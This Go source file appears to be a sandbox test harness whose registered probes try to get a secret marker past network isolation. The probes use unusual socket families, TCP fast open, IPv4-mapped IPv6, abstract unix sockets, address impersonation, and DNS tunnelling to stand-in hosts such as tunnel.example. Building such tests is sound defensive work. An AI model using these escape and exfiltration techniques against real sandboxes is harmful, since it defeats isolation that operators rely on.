package main

import (
	"context"
	"errors"
	"fmt"
	"io"
	"net"
	"net/netip"
	"os"
	"slices"
	"strconv"
	"strings"
	"time"

	"golang.org/x/sys/unix"
)

// mark is what must never reach the vendor: the harness looks for it in every
// byte, name and packet that came there.
func mark() string { return os.Getenv("MARK") }

// patience is how long an attack waits for an answer: in a sandbox longer than
// the slowest refusal takes on a busy machine, in the control less, where
// nobody refuses and some wait for an end that does not come.
var patience = func() time.Duration {
	if os.Getenv("CONTROL") != "" {
		return 6 * time.Second
	}
	return 25 * time.Second
}()

var _ = register(map[string]func([]string) error{
	"socket":     func(a []string) error { return sockets(a) },
	"fastopen":   func(a []string) error { return fastOpen(a[0]) },
	"tfo-option": func([]string) error { return tfoOption() },
	"ulp":        func([]string) error { return ulp() },
	"md5":        func([]string) error { return md5Key() },
	"impostor":   func(a []string) error { return impostor(a[0]) },
	"udp":        func(a []string) error { return udp(a) },
	"tcp":        func(a []string) error { return tcp(a) },
	"v4-mapped":  func(a []string) error { return mapped4(a[0]) },
	"abstract":   func(a []string) error { return connectUnix("@" + a[0]) },
	"unix":       func(a []string) error { return connectUnix(a[0]) },
	"names":      func(a []string) error { return names(a) },
	"tunnel":     func([]string) error { return tunnel() },
	"dns-direct": func(a []string) error { return direct(a[0]) },
	"bpf-filter": func([]string) error { return filter() },
})

// families are socket(2)'s arguments, by a name for the command line.
var families = map[string][3]int{
	"raw":        {unix.AF_INET, unix.SOCK_RAW, unix.IPPROTO_ICMP},
	"raw6":       {unix.AF_INET6, unix.SOCK_RAW, unix.IPPROTO_ICMPV6},
	"packet":     {unix.AF_PACKET, unix.SOCK_RAW, 0},
	"mptcp":      {unix.AF_INET, unix.SOCK_STREAM, unix.IPPROTO_MPTCP},
	"sctp":       {unix.AF_INET, unix.SOCK_STREAM, unix.IPPROTO_SCTP},
	"dccp":       {unix.AF_INET, unix.SOCK_DCCP, unix.IPPROTO_DCCP},
	"vsock":      {unix.AF_VSOCK, unix.SOCK_STREAM, 0},
	"alg":        {unix.AF_ALG, unix.SOCK_SEQPACKET, 0},
	"xdp":        {unix.AF_XDP, unix.SOCK_RAW, 0},
	"key":        {unix.AF_KEY, unix.SOCK_RAW, 2},
	"bluetooth":  {unix.AF_BLUETOOTH, unix.SOCK_RAW, 1},
	"can":        {unix.AF_CAN, unix.SOCK_RAW, 1},
	"tipc":       {unix.AF_TIPC, unix.SOCK_RDM, 0},
	"ping":       {unix.AF_INET, unix.SOCK_DGRAM, unix.IPPROTO_ICMP},
	"nl-generic": {unix.AF_NETLINK, unix.SOCK_RAW, unix.NETLINK_GENERIC},
	"nl-audit":   {unix.AF_NETLINK, unix.SOCK_RAW, unix.NETLINK_AUDIT},
	"nl-filter":  {unix.AF_NETLINK, unix.SOCK_RAW, unix.NETLINK_NETFILTER},
	"nl-xfrm":    {unix.AF_NETLINK, unix.SOCK_RAW, unix.NETLINK_XFRM},
	"nl-diag":    {unix.AF_NETLINK, unix.SOCK_RAW, unix.NETLINK_SOCK_DIAG},
	"nl-route":   {unix.AF_NETLINK, unix.SOCK_RAW, unix.NETLINK_ROUTE},
	"nl-uevent":  {unix.AF_NETLINK, unix.SOCK_DGRAM, unix.NETLINK_KOBJECT_UEVENT},
}

// sockets makes each of the named sockets.
func sockets(names []string) error {
	var ways []func() error
	for _, n := range names {
		f := families[n]
		ways = append(ways, func() error {
			fd, err := unix.Socket(f[0], f[1]|unix.SOCK_CLOEXEC, f[2])
			if err != nil {
				return fmt.Errorf("socket %s: %w", n, err)
			}
			return unix.Close(fd)
		})
	}
	return oneOf(ways...)
}

func v4(addr string) (*unix.SockaddrInet4, error) {
	a, err := net.ResolveTCPAddr("tcp4", addr)
	if err != nil {
		return nil, err
	}
	return &unix.SockaddrInet4{Port: a.Port, Addr: [4]byte(a.IP.To4())}, nil
}

// fastOpen connects without connect().
func fastOpen(addr string) error {
	sa, err := v4(addr)
	if err != nil {
		return err
	}
	s, err := unix.Socket(unix.AF_INET, unix.SOCK_STREAM, 0)
	if err != nil {
		return err
	}
	defer unix.Close(s)
	if err := unix.Sendto(s, []byte("GET /"+mark()+" HTTP/1.0\r\n\r\n"), unix.MSG_FASTOPEN, sa); err != nil {
		return fmt.Errorf("sendto: %w", err)
	}
	b := make([]byte, 512)
	n, err := unix.Read(s, b)
	return answer(b[:max(n, 0)], err)
}

func tfoOption() error {
	s, err := unix.Socket(unix.AF_INET, unix.SOCK_STREAM, 0)
	if err != nil {
		return err
	}
	defer unix.Close(s)
	if err := unix.SetsockoptInt(s, unix.SOL_TCP, unix.TCP_FASTOPEN_CONNECT, 1); err != nil {
		return fmt.Errorf("setsockopt: %w", err)
	}
	return nil
}

// md5Key gives a socket a key for its segments (RFC 2385): it is deaf to whoever
// has none.
func md5Key() error {
	fd, err := unix.Socket(unix.AF_INET, unix.SOCK_STREAM, 0)
	if err != nil {
		return err
	}
	defer unix.Close(fd)
	var sig [216]byte // struct tcp_md5sig: address, flags, key
	sig[0], sig[4], sig[130], sig[136] = unix.AF_INET, 127, 1, 'k'
	return os.NewSyscallError("setsockopt", unix.SetsockoptString(fd, unix.SOL_TCP, unix.TCP_MD5SIG, string(sig[:])))
}

// impostor takes another's address, and connects to it from there: no listener is
// asked.
func impostor(addr string) error {
	a, err := netip.ParseAddrPort(addr)
	if err != nil {
		return err
	}
	fd, err := unix.Socket(unix.AF_INET, unix.SOCK_STREAM, 0)
	if err != nil {
		return err
	}
	defer unix.Close(fd)
	to := &unix.SockaddrInet4{Port: int(a.Port()), Addr: a.Addr().As4()}
	if err := unix.Bind(fd, to); err != nil {
		return os.NewSyscallError("bind", err)
	}
	return os.NewSyscallError("connect", unix.Connect(fd, to))
}

// ulp puts another protocol over TCP, for which the kernel would load a
// module. ENOTCONN means that the kernel looked.
func ulp() error {
	s, err := unix.Socket(unix.AF_INET, unix.SOCK_STREAM, 0)
	if err != nil {
		return err
	}
	defer unix.Close(s)
	err = unix.SetsockoptString(s, unix.SOL_TCP, unix.TCP_ULP, "tls")
	if err == nil || errors.Is(err, unix.ENOTCONN) || errors.Is(err, unix.ENOENT) {
		return nil
	}
	return fmt.Errorf("setsockopt: %w", err)
}

// filter puts a program into the kernel, to watch a socket.
func filter() error {
	s, err := unix.Socket(unix.AF_INET, unix.SOCK_DGRAM, 0)
	if err != nil {
		return err
	}
	defer unix.Close(s)
	prog := unix.SockFprog{Len: 1, Filter: &unix.SockFilter{Code: unix.BPF_RET | unix.BPF_K, K: 0xffff}}
	if err := unix.SetsockoptSockFprog(s, unix.SOL_SOCKET, unix.SO_ATTACH_FILTER, &prog); err != nil {
		return fmt.Errorf("setsockopt: %w", err)
	}
	return nil
}

// udp sends the mark to each address and waits for its echo.
func udp(addrs []string) error {
	var ways []func() error
	for _, a := range addrs {
		ways = append(ways, func() error {
			c, err := net.Dial("udp", a)
			if err != nil {
				return err
			}
			defer c.Close()
			c.SetDeadline(time.Now().Add(time.Second))
			if _, err := io.WriteString(c, mark()); err != nil {
				return err
			}
			if _, err := c.Read(make([]byte, 100)); err != nil {
				return timedOut(err)
			}
			return nil
		})
	}
	return oneOf(ways...)
}

// timedOut gives silence an errno of its own.
func timedOut(err error) error {
	var n net.Error
	if errors.As(err, &n) && n.Timeout() {
		return fmt.Errorf("%v: %w", err, unix.ETIMEDOUT)
	}
	return err
}

// answer is nil for an HTTP answer of success.
func answer(b []byte, err error) error {
	s := string(b)
	if strings.HasPrefix(s, "HTTP/1.0 200") || strings.HasPrefix(s, "HTTP/1.1 200") {
		return nil
	}
	if len(s) > 0 {
		return fmt.Errorf("answer: %.400s", s)
	}
	if err == nil {
		err = io.EOF
	}
	return timedOut(err)
}

// ask sends raw bytes to an address and gives what came back.
func ask(addr, raw string) ([]byte, error) {
	c, err := net.DialTimeout("tcp", addr, patience)
	if err != nil {
		return nil, timedOut(err)
	}
	defer c.Close()
	c.SetDeadline(time.Now().Add(patience))
	if _, err := io.WriteString(c, raw); err != nil {
		return nil, err
	}
	b, err := io.ReadAll(io.LimitReader(c, 64<<10))
	return b, err
}

// tcp asks each address for a page, by HTTP.
func tcp(addrs []string) error {
	var ways []func() error
	for _, a := range addrs {
		ways = append(ways, func() error {
			host, _, _ := net.SplitHostPort(a)
			b, err := ask(a, "GET /v2/"+mark()+" HTTP/1.1\r\nHost: "+host+"\r\nConnection: close\r\n\r\n")
			return answer(b, err)
		})
	}
	return oneOf(ways...)
}

// mapped4 reaches an IPv4 address through an IPv6 socket.
func mapped4(addr string) error {
	sa, err := v4(addr)
	if err != nil {
		return err
	}
	six := &unix.SockaddrInet6{Port: sa.Port, Addr: [16]byte{10: 0xff, 11: 0xff, 12: sa.Addr[0], 13: sa.Addr[1], 14: sa.Addr[2], 15: sa.Addr[3]}}
	s, err := unix.Socket(unix.AF_INET6, unix.SOCK_STREAM, 0)
	if err != nil {
		return err
	}
	defer unix.Close(s)
	tv := unix.NsecToTimeval(int64(patience))
	unix.SetsockoptTimeval(s, unix.SOL_SOCKET, unix.SO_RCVTIMEO, &tv)
	if err := unix.Connect(s, six); err != nil {
		return fmt.Errorf("connect: %w", err)
	}
	if _, err := unix.Write(s, []byte("GET /"+mark()+" HTTP/1.0\r\n\r\n")); err != nil {
		return err
	}
	b := make([]byte, 1024)
	n, err := unix.Read(s, b)
	return answer(b[:max(n, 0)], err)
}

func connectUnix(name string) error {
	c, err := net.DialTimeout("unix", name, patience)
	if err != nil {
		return err
	}
	return c.Close()
}

func resolver() *net.Resolver { return &net.Resolver{PreferGo: true} }

// names asks for addresses of names that lead somewhere else in some readers'
// eyes, and connects.
func names(hosts []string) error {
	var ways []func() error
	for _, h := range hosts {
		ways = append(ways, func() error {
			b, err := ask(net.JoinHostPort(h, "80"), "GET /"+mark()+" HTTP/1.1\r\nHost: "+h+"\r\nConnection: close\r\n\r\n")
			return answer(b, err)
		})
	}
	return oneOf(ways...)
}

// tunnel carries data out in a name that is asked for, and in through the
// answer's text.
func tunnel() error {
	ctx, cancel := context.WithTimeout(context.Background(), patience)
	defer cancel()
	return oneOf(
		func() error { return text(ctx, resolver(), mark()+".tunnel.example") },
		func() error { return text(ctx, resolver(), mark()+".allowed.example") },
		func() error { return tcp([]string{mark() + ".tunnel.example:80"}) },
	)
}

// text wants the answer that only the vendor gives. An empty one is none: the
// harness knows whether the question came out.
func text(ctx context.Context, r *net.Resolver, name string) error {
	ts, err := r.LookupTXT(ctx, name)
	if err == nil && !slices.Contains(ts, "from the vendor") {
		err = fmt.Errorf("%s: no such host: %q", name, ts)
	}
	return err
}

// direct asks a DNS server of the attacker's own, past the sandbox's.
func direct(server string) error {
	by := func(network string) func() error {
		return func() error {
			ctx, cancel := context.WithTimeout(context.Background(), patience/2)
			defer cancel()
			r := &net.Resolver{PreferGo: true, Dial: func(ctx context.Context, _, _ string) (net.Conn, error) {
				return new(net.Dialer).DialContext(ctx, network, server)
			}}
			return text(ctx, r, mark()+".tunnel.example")
		}
	}
	return oneOf(by("udp"), by("tcp"))
}

func atoi(s string) int {
	n, _ := strconv.Atoi(s)
	return n
}
